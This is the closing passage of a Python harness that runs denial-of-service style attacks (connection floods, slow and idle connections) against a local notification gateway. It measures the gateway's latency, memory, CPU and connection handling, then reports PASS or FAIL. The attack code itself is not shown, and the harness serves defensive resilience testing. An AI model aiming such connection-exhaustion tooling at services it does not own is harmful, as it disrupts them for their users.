        usage = resource.getrusage(resource.RUSAGE_SELF)
        result = {
            "attack": options.attack, "window_s": round(window, 2), "grace_s": round(grace, 2),
            "aborted": abort.is_set(),
            "opened": self.opened, "closed": self.closed_by_gateway, "open_at_stop": open_at_stop,
            "left_open": self.left_open, "setup_timeouts": self.setup_timeouts,
            "close_s": {"min": times[0], "median": statistics.median(times), "max": times[-1]} if times else None,
            "said": dict(self.said.most_common()), "left_open_said": dict(self.left_open_said.most_common()),
            "rst": dict(self.rst), "server_frames": dict(self.server_frames),
            "connect_failures": dict(self.connect_failures), "errors": dict(self.errors), "stages": stages,
            "bytes_sent": self.bytes_sent, "window_bytes_sent": window_bytes, "frames_sent": self.frames_sent,
            "attacker_cpu_s": round(usage.ru_utime + usage.ru_stime, 2),
        }
        print("RESULT " + json.dumps(result), flush=True)


# ------------------------------------------------------------------------------------------------- orchestrator


def cpu_seconds(pid):
    try:
        with open(f"/proc/{pid}/stat") as stat:
            fields = stat.read().rsplit(")", 1)[1].split()
    except OSError:
        return None
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def alive(pid):
    try:
        with open(f"/proc/{pid}/stat") as stat:
            return stat.read().rsplit(")", 1)[1].split()[0] not in ("Z", "X")
    except OSError:
        return False


def fd_count(pid):
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return None


def machine_cpu_seconds():
    """CPU time (user + nice + system) the whole machine used, to tell what other processes took."""
    with open("/proc/stat") as stat:
        fields = stat.readline().split()
    return (int(fields[1]) + int(fields[2]) + int(fields[3])) / os.sysconf("SC_CLK_TCK")


def children_cpu_seconds():
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


class OtherCPU:
    """CPU seconds used on the machine by processes other than the gateway, herald-bench and the attacker (the
    orchestrator's reaped children) between start() and stop(): work someone else ran meanwhile (a build, tests)
    takes the cores the measurement needs, and makes its p99 worthless."""

    def __init__(self, pid):
        self.pid = pid
        self.machine, self.gateway, self.children = machine_cpu_seconds(), cpu_seconds(pid), children_cpu_seconds()
        self.own = time.process_time()

    def stop(self):
        gateway = cpu_seconds(self.pid)
        if gateway is None or self.gateway is None:
            return None
        return max(0.0, (machine_cpu_seconds() - self.machine) - (gateway - self.gateway)
                   - (children_cpu_seconds() - self.children) - (time.process_time() - self.own))


def io_bytes(pid):
    """(rchar, wchar): bytes the gateway read and wrote through system calls, sockets included."""
    try:
        with open(f"/proc/{pid}/io") as io:
            values = dict(line.split(":") for line in io)
        return int(values["rchar"]), int(values["wchar"])
    except (OSError, KeyError, ValueError):
        return None


def reset_peak(pid):
    try:
        with open(f"/proc/{pid}/clear_refs", "w") as refs:
            refs.write("5")  # resets VmHWM to the current RSS
    except OSError:
        pass


def metrics(options):
    url = f"http://127.0.0.1:{options.console_port}/metrics"
    request = urllib.request.Request(url)
    try:
        try:
            body = urllib.request.urlopen(request, timeout=5).read().decode()
        except urllib.error.HTTPError as error:
            if error.code not in (401, 403):
                raise
            with open(os.path.join(options.data, "admin-token")) as token:
                request.add_header("authorization", f"bearer {token.read().strip()}")
            body = urllib.request.urlopen(request, timeout=5).read().decode()
    except OSError:
        return {}
    values = {}
    for line in body.splitlines():
        if line.startswith("herald_") and "_bucket{" not in line:
            name, _, value = line.rpartition(" ")
            try:
                values[name] = float(value)
            except ValueError:
                pass
    return values


def metric_changes(before, after):
    lines = []
    for name in sorted(set(before) | set(after)):
        old, new = before.get(name, 0.0), after.get(name, 0.0)
        if old != new:
            delta = new - old
            lines.append(f"{name} {f'{delta:+.0f}' if float(delta).is_integer() else f'{delta:+.4g}'}")
    return lines


def parse_bench(output):
    result = {"timed": None, "accepted": None, "delivered": None, "provider_p99": None, "device_p99": None,
              "outcomes": {}}
    match = re.search(r"timed (\d+) in [\d.]+ ms, accepted (\d+), delivered (\d+)", output)
    if match:
        result["timed"], result["accepted"], result["delivered"] = map(int, match.groups())
    match = re.search(r"^provider 200:.*?\bp99 ([\d.]+) ms", output, re.M)
    if match:
        result["provider_p99"] = float(match.group(1))
    match = re.search(r"^provider→device:.*?\bp99 ([\d.]+) ms", output, re.M)
    if match:
        result["device_p99"] = float(match.group(1))
    for count, outcome in re.findall(r"^\s+(\d+) × (.*)$", output, re.M):
        result["outcomes"][outcome] = int(count)
    return result


async def run_bench(options, seconds):
    """`herald-bench latency`: 10 devices on TLS device links, 500 notifications/s over 4 HTTP/2 connections."""
    command = [
        options.bench, "latency", "--provider", f"https://localhost:{options.provider_port}", "--ca", options.ca,
        "--jwt", options.jwt, "--topic", TOPIC.decode(), "--device-gateway", f"https://localhost:{options.device_port}",
        "--devices", "10", "--rate", "500", "--seconds", str(seconds),
    ]
    started = time.monotonic()
    process = await asyncio.create_subprocess_exec(*command, stdout=asyncio.subprocess.PIPE,
                                                   stderr=asyncio.subprocess.STDOUT)
    try:
        output, _ = await asyncio.wait_for(process.communicate(), seconds + 150)
    except asyncio.TimeoutError:
        process.kill()
        output, _ = await process.communicate()
        output += b"\n(herald-bench killed: no end within its time + 150 s)"
    text = output.decode("utf-8", "replace")
    result = parse_bench(text)
    result["exit"] = process.returncode
    result["output"] = text
    result["wall_s"] = time.monotonic() - started
    return result


def bench_failures(bench):
    if bench["provider_p99"] is None or bench["timed"] is None:
        last = bench["output"].strip().splitlines()[-1:] or ["no output"]
        return [f"herald-bench failed (exit {bench['exit']}): {last[0][:200]}"]
    reasons = []
    if bench["provider_p99"] >= 20:
        reasons.append(f"provider p99 {bench['provider_p99']} ms ≥ 20 ms")
    if bench["accepted"] < bench["timed"]:
        reasons.append(f"{bench['timed'] - bench['accepted']} of {bench['timed']} not accepted {bench['outcomes']}")
    if bench["delivered"] < bench["accepted"]:
        reasons.append(f"{bench['accepted'] - bench['delivered']} accepted but not delivered")
    return reasons


def fmt_ms(value):
    return "-" if value is None else f"{value:.2f}" if value < 10 else f"{value:.0f}"


def fmt_s(value):
    return f"{value:.2f}" if value < 10 else f"{value:.1f}"


def mib(kib):
    return "?" if kib is None else f"{kib / 1024:.1f}"


def bench_line(bench):
    if bench["timed"] is None:
        return "herald-bench: " + " | ".join(bench["output"].strip().splitlines()[-3:])
    outcomes = ", ".join(f"{count} × {outcome}" for outcome, count in bench["outcomes"].items())
    return (f"well-behaved: timed {bench['timed']}, accepted {bench['accepted']}, delivered {bench['delivered']}"
            f"{' (' + outcomes + ')' if outcomes else ''}; provider 200 p99 {fmt_ms(bench['provider_p99'])} ms, "
            f"provider→device p99 {fmt_ms(bench['device_p99'])} ms (herald-bench ran {bench['wall_s']:.1f} s)")


def row(name, bench=None, result=None, hwm=None, cpu=None, reasons=(), status=None, other=None):
    close = result["close_s"] if result else None
    return {
        "attack": name, "port": port_label(name) if name in ATTACKS else "-",
        "closed": f"{result['closed']}/{result['opened']}" if result else "-",
        "time_to_close": f"{fmt_s(close['min'])}/{fmt_s(close['median'])}/{fmt_s(close['max'])}" if close else "-",
        "provider_p99": fmt_ms(bench["provider_p99"]) if bench else "-",
        "device_p99": fmt_ms(bench["device_p99"]) if bench else "-",
        "accepted": f"{bench['accepted']}/{bench['delivered']} of {bench['timed']}" if bench and bench["timed"] is not None else "-",
        "peak_rss": f"{hwm / 1024:.0f}" if hwm else "-",
        "cpu": f"{cpu:.1f}" if cpu is not None else "-",
        "other_cpu": f"{other:.1f}" if other is not None else "-",
        "result": status or ("PASS" if not reasons else "FAIL"), "reasons": list(reasons),
    }


def gateway_log_tail(options):
    if options.gateway_log and os.path.exists(options.gateway_log):
        with open(options.gateway_log, errors="replace") as log:
            return "".join(log.readlines()[-30:])
    return ""


async def tell(worker, command):
    try:
        worker.stdin.write(command.encode() + b"\n")
        await worker.stdin.drain()
    except (BrokenPipeError, ConnectionResetError, RuntimeError):
        pass


async def watch_gateway(options, worker, tripped):
    """During the window: abort the attack if the gateway is gone or its RSS passes the cap (the machine's memory
    is shared; a gateway that grows without bound would take it all)."""
    cap_kib = options.max_rss_mib * 1024
    while True:
        await asyncio.sleep(0.2)
        rss = vm_kib(options.gateway_pid, "VmRSS")
        if rss is None or not alive(options.gateway_pid):
            tripped.append("the gateway process is gone")
            await tell(worker, "ABORT")
            return
        if rss > cap_kib:
            tripped.append(f"gateway RSS {rss / 1024:.0f} MiB passed the {options.max_rss_mib} MiB cap: attack aborted")
            await tell(worker, "ABORT")
            return


async def run_attack(options, name):
    pid = options.gateway_pid
    seconds = max(options.seconds, MIN_SECONDS.get(name, 0))
    print(f"\n== {name} ({port_label(name)} port), {seconds} s", flush=True)
    before_metrics = metrics(options)
    rss_before, fds_before, io_before = vm_kib(pid, "VmRSS"), fd_count(pid), io_bytes(pid)
    reset_peak(pid)
    cpu_start = cpu_seconds(pid)
    others = OtherCPU(pid)
    nice = options.attacker_nice
    worker = await asyncio.create_subprocess_exec(
        sys.executable, os.path.abspath(__file__), "worker", name, "--provider-port", str(options.provider_port),
        "--device-port", str(options.device_port), "--gateway-pid", str(pid), "--ca", options.ca,
        "--connections", str(options.connections), "--slow-connections", str(options.slow_connections),
        "--idle-connections", str(options.idle_connections),
        "--device-idle-connections", str(options.device_idle_connections), "--grace", str(options.grace),
        "--max-seconds", str(seconds + 240),
        stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE,
        preexec_fn=(lambda: os.nice(nice)) if nice else None)
    result = bench = None
    reasons, tripped = [], []
    rss_ready = rss_window_end = fds_window_end = cpu_window = io_window = None

    async def read_line(prefix, timeout):
        deadline = time.monotonic() + timeout
        while True:
            line = await asyncio.wait_for(worker.stdout.readline(), max(0.1, deadline - time.monotonic()))
            if not line:
                return None
            if line.decode().startswith(prefix):
                return line.decode()[len(prefix):].strip()

    try:
        if await read_line("READY", 150) is None:
            raise RuntimeError("the attacker ended before it was ready")
        rss_ready = vm_kib(pid, "VmRSS")
        watch = asyncio.create_task(watch_gateway(options, worker, tripped))
        bench = await run_bench(options, seconds)
        watch.cancel()
        cpu_now, io_now = cpu_seconds(pid), io_bytes(pid)
        if cpu_now is not None and cpu_start is not None:
            cpu_window = cpu_now - cpu_start
        if io_now and io_before:
            io_window = (io_now[0] - io_before[0], io_now[1] - io_before[1])
        rss_window_end, fds_window_end = vm_kib(pid, "VmRSS"), fd_count(pid)
        await tell(worker, "STOP")
        line = await read_line("RESULT ", options.grace + 60)
        result = json.loads(line) if line else None
    except (asyncio.TimeoutError, RuntimeError, json.JSONDecodeError) as error:
        reasons.append(f"attacker failed: {error!r}")
    finally:
        if worker.returncode is None:
            try:
                await asyncio.wait_for(worker.wait(), 10)
            except asyncio.TimeoutError:
                worker.kill()
                await worker.wait()

    gone = not alive(pid)
    other = others.stop()
    hwm, rss_after = vm_kib(pid, "VmHWM"), vm_kib(pid, "VmRSS")
    # A moment for the gateway to let go of what the attacker has now closed, then count its descriptors.
    for _ in range(50):
        if gone or (fd_count(pid) or 0) <= (fds_before or 0) + 2:
            break
        await asyncio.sleep(0.1)
    fds_after = fd_count(pid)
    after_metrics = metrics(options) if not gone else {}

    if result:
        said = result["said"]
        for description, count in list(said.items())[:8]:
            print(f"   gateway closed {count} × {description}")
        if len(said) > 8:
            print(f"   … and {sum(list(said.values())[8:])} more in {len(said) - 8} other ways")
        if result["rst"]:
            print("   RST_STREAM from the gateway: " + ", ".join(f"{count} × {code}" for code, count in result["rst"].items()))
        if result["server_frames"]:
            print("   frames from the gateway (read, or drained after the close): "
                  + ", ".join(f"{count} {kind}" for kind, count in sorted(result["server_frames"].items())))
        close = result["close_s"]
        print(f"   attacking connections: opened {result['opened']}, closed by the gateway {result['closed']}"
              + (f" ({fmt_s(close['min'])} / {fmt_s(close['median'])} / {fmt_s(close['max'])} s after opening, "
                 "min/median/max)" if close else "")
              + f"; open when the window ended {result['open_at_stop']}; "
              + (f"still open {result['grace_s']:.1f} s later {result['left_open']}" if not result["aborted"]
                 else f"attack aborted, {result['left_open']} closed by the attacker"))
        for description, count in result["left_open_said"].items():
            print(f"   {'left open' if not result['aborted'] else 'open at the abort'}: {count} × {description}")
        for stage in result["stages"]:
            per = stage["kib_per_connection"]
            print(f"   {stage['group']}: {stage['open']} open; gateway RSS {mib(stage['rss_before_kib'])} → "
                  f"{mib(stage['rss_after_kib'])} MiB" + (f", {per} KiB per connection" if per is not None else ""))
        if result["connect_failures"]:
            print(f"   connect failures: {result['connect_failures']}")
        if result["setup_timeouts"]:
            print(f"   setups (TLS, preface, upgrade) not done within 15 s: {result['setup_timeouts']}")
        if result["errors"]:
            print(f"   attacker errors: {result['errors']}")
        print(f"   attacker: sent {result['window_bytes_sent'] / 1e6:.1f} MB in the window, {result['bytes_sent'] / 1e6:.1f} MB "
              f"in all, {result['frames_sent']} frames or writes, own CPU "
              f"{result['attacker_cpu_s']:.1f} s (nice {options.attacker_nice}); window {result['window_s']:.1f} s")
    if bench:
        print("   " + bench_line(bench))
        reasons += bench_failures(bench)
    print(f"   gateway: RSS {mib(rss_before)} MiB before, {mib(rss_ready)} with the attack up, {mib(rss_window_end)} at the "
          f"end of the window, {mib(rss_after)} after; peak (VmHWM) {mib(hwm)} MiB; CPU "
          f"{'?' if cpu_window is None else f'{cpu_window:.1f}'} s in the window"
          + (f"; read {io_window[0] / 1e6:.1f} MB, wrote {io_window[1] / 1e6:.1f} MB" if io_window else "")
          + f"; descriptors {fds_before} → {fds_window_end} → {fds_after}")
    print_other(other)
    changes = metric_changes(before_metrics, after_metrics)
    if changes:
        print("   metrics: " + "; ".join(changes))
    reasons += tripped
    if gone:
        if "the gateway process is gone" not in reasons:
            reasons.append("the gateway process is gone")
        print("   the gateway is gone; the end of its log:\n" + gateway_log_tail(options))
    if result and result["left_open"] and not result["aborted"]:
        reasons.append(f"{result['left_open']} attacking connections still open {result['grace_s']:.0f} s after the attack")
    if result is None and not any(reason.startswith("attacker failed") for reason in reasons):
        reasons.append("attacker failed: no result")
    print(f"   {'PASS' if not reasons else 'FAIL: ' + '; '.join(reasons)}", flush=True)
    return row(name, bench, result, hwm, cpu_window, reasons, other=other)


async def run_baseline(options):
    pid = options.gateway_pid
    print("\n== baseline (no attack)", flush=True)
    reset_peak(pid)
    cpu_start = cpu_seconds(pid)
    others = OtherCPU(pid)
    bench = await run_bench(options, options.seconds)
    other = others.stop()
    cpu = cpu_seconds(pid) - cpu_start if alive(pid) else None
    hwm = vm_kib(pid, "VmHWM")
    reasons = bench_failures(bench)
    print("   " + bench_line(bench))
    print(f"   gateway: RSS {mib(vm_kib(pid, 'VmRSS'))} MiB, peak {mib(hwm)} MiB, CPU "
          f"{'?' if cpu is None else f'{cpu:.1f}'} s, descriptors {fd_count(pid)}")
    print_other(other)
    print(f"   {'PASS' if not reasons else 'FAIL: ' + '; '.join(reasons)}", flush=True)
    return row("(baseline)", bench, None, hwm, cpu, reasons, other=other)


def print_other(other):
    if other is not None:
        print(f"   other processes on the machine: {other:.1f} CPU s"
              + (" (more than a little: this row's latencies are suspect; run it again on a quiet machine)"
                 if other >= OTHER_CPU_WARNING else ""))


async def run(options):
    names = [name.strip() for name in options.attacks.split(",") if name.strip()]
    unknown = [name for name in names if name not in ATTACKS]
    if unknown:
        print(f"unknown attacks {unknown}; known: {', '.join(ATTACKS)}", file=sys.stderr)
        return 2
    pid = options.gateway_pid
    rows = []
    if options.warmup:
        bench = await run_bench(options, options.warmup)
        print(f"   (warm-up, not counted: {bench_line(bench)})", flush=True)
    if options.baseline:
        rows.append(await run_baseline(options))
    for index, name in enumerate(names):
        if not alive(pid):
            rows += [row(rest, reasons=["the gateway was gone before it"], status="NOT RUN") for rest in names[index:]]
            break
        rows.append(await run_attack(options, name))
        await asyncio.sleep(1)
    if options.results:
        with open(options.results, "a") as results:
            for each in rows:
                results.write(json.dumps(each) + "\n")
    else:
        print_summary(rows)
    return 1 if any(each["result"] != "PASS" for each in rows) else 0


OTHER_CPU_WARNING = 2.0


def print_summary(rows):
    headers = ["attack", "port", "closed/opened", "close s min/med/max", "prov p99 ms", "dev p99 ms",
               "accepted/delivered", "peak RSS MiB", "gw CPU s", "other CPU s", "result"]
    keys = ["attack", "port", "closed", "time_to_close", "provider_p99", "device_p99", "accepted", "peak_rss", "cpu",
            "other_cpu", "result"]
    widths = [max(len(header), *(len(str(each[key])) for each in rows)) for header, key in zip(headers, keys)]
    print("\n" + " | ".join(header.ljust(width) for header, width in zip(headers, widths)))
    print("-+-".join("-" * width for width in widths))
    for each in rows:
        print(" | ".join(str(each[key]).ljust(width) for key, width in zip(keys, widths)).rstrip())
    failed = [each for each in rows if each["result"] != "PASS"]
    print()
    for each in failed:
        print(f"{each['result']} {each['attack']}: {'; '.join(each['reasons'])}")
    busy = [each["attack"] for each in rows if each.get("other_cpu", "-") != "-" and float(each["other_cpu"]) >= OTHER_CPU_WARNING]
    if busy:
        print(f"other processes took {OTHER_CPU_WARNING:.0f}+ CPU s during: {', '.join(busy)}; their latencies are suspect")
    print(f"{len(rows) - len(failed)} of {len(rows)} passed (goal: provider p99 < 20 ms, every notification accepted "
          f"and delivered, the gateway alive, no attacking connection left open GRACE (15) s after its attack)", flush=True)


def summary(options):
    rows = []
    if os.path.exists(options.results):
        with open(options.results) as results:
            rows = [json.loads(line) for line in results if line.strip()]
    seen = {each["attack"] for each in rows}
    for name in [name for name in options.expect.split(",") if name]:
        if name not in seen:
            rows.append(row(name, reasons=["no result (the run of this attack failed)"], status="NO RESULT"))
    print_summary(rows)
    return 1 if not rows or any(each["result"] != "PASS" for each in rows) else 0


def raise_fd_limit():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = parser.add_subparsers(dest="command", required=True)
    p = sub.add_parser("list", help="print the attacks' names")
    p = sub.add_parser("summary", help="print the table of a results file; exit 1 if anything failed")
    p.add_argument("--results", required=True)
    p.add_argument("--expect", default="", help="comma-separated rows that must be there")
    for command in ("run", "worker"):
        p = sub.add_parser(command)
        if command == "worker":
            p.add_argument("attack", choices=ATTACKS)
        p.add_argument("--provider-port", type=int, required=True)
        p.add_argument("--device-port", type=int, required=True)
        p.add_argument("--gateway-pid", type=int, required=True)
        p.add_argument("--ca", help="the gateway's CA (default DATA/tls/ca.pem)")
        p.add_argument("--connections", type=int, default=8, help="attacking connections per flood")
        p.add_argument("--slow-connections", type=int, default=200)
        p.add_argument("--idle-connections", type=int, default=2000)
        p.add_argument("--device-idle-connections", type=int, default=2000, help="of each kind")
        p.add_argument("--grace", type=float, default=15, help="seconds the gateway has to close attack connections")
        if command == "run":
            p.add_argument("--console-port", type=int, required=True)
            p.add_argument("--data", required=True)
            p.add_argument("--jwt", required=True)
            p.add_argument("--bench", required=True, help="path of herald-bench")
            p.add_argument("--attacks", default="", help="comma-separated; none: only the baseline")
            p.add_argument("--baseline", action="store_true", help="first, the bench alone")
            p.add_argument("--warmup", type=int, default=2, help="seconds of bench first, not counted (0: none)")
            p.add_argument("--seconds", type=int, default=10)
            p.add_argument("--attacker-nice", type=int, default=10)
            p.add_argument("--max-rss-mib", type=int, default=4096, help="abort an attack when the gateway passes it")
            p.add_argument("--results", help="append the rows (JSON lines) here instead of printing the table")
            p.add_argument("--gateway-log", help="the gateway's stderr, shown if it dies")
        else:
            p.add_argument("--max-seconds", type=float, default=300)
    options = parser.parse_args()
    if options.command == "list":
        print("\n".join(ATTACKS))
        return
    if options.command == "summary":
        sys.exit(summary(options))
    raise_fd_limit()
    if options.command == "run":
        options.ca = options.ca or os.path.join(options.data, "tls", "ca.pem")
        sys.exit(asyncio.run(run(options)))
    asyncio.run(Worker(options).main())


if __name__ == "__main__":
    main()
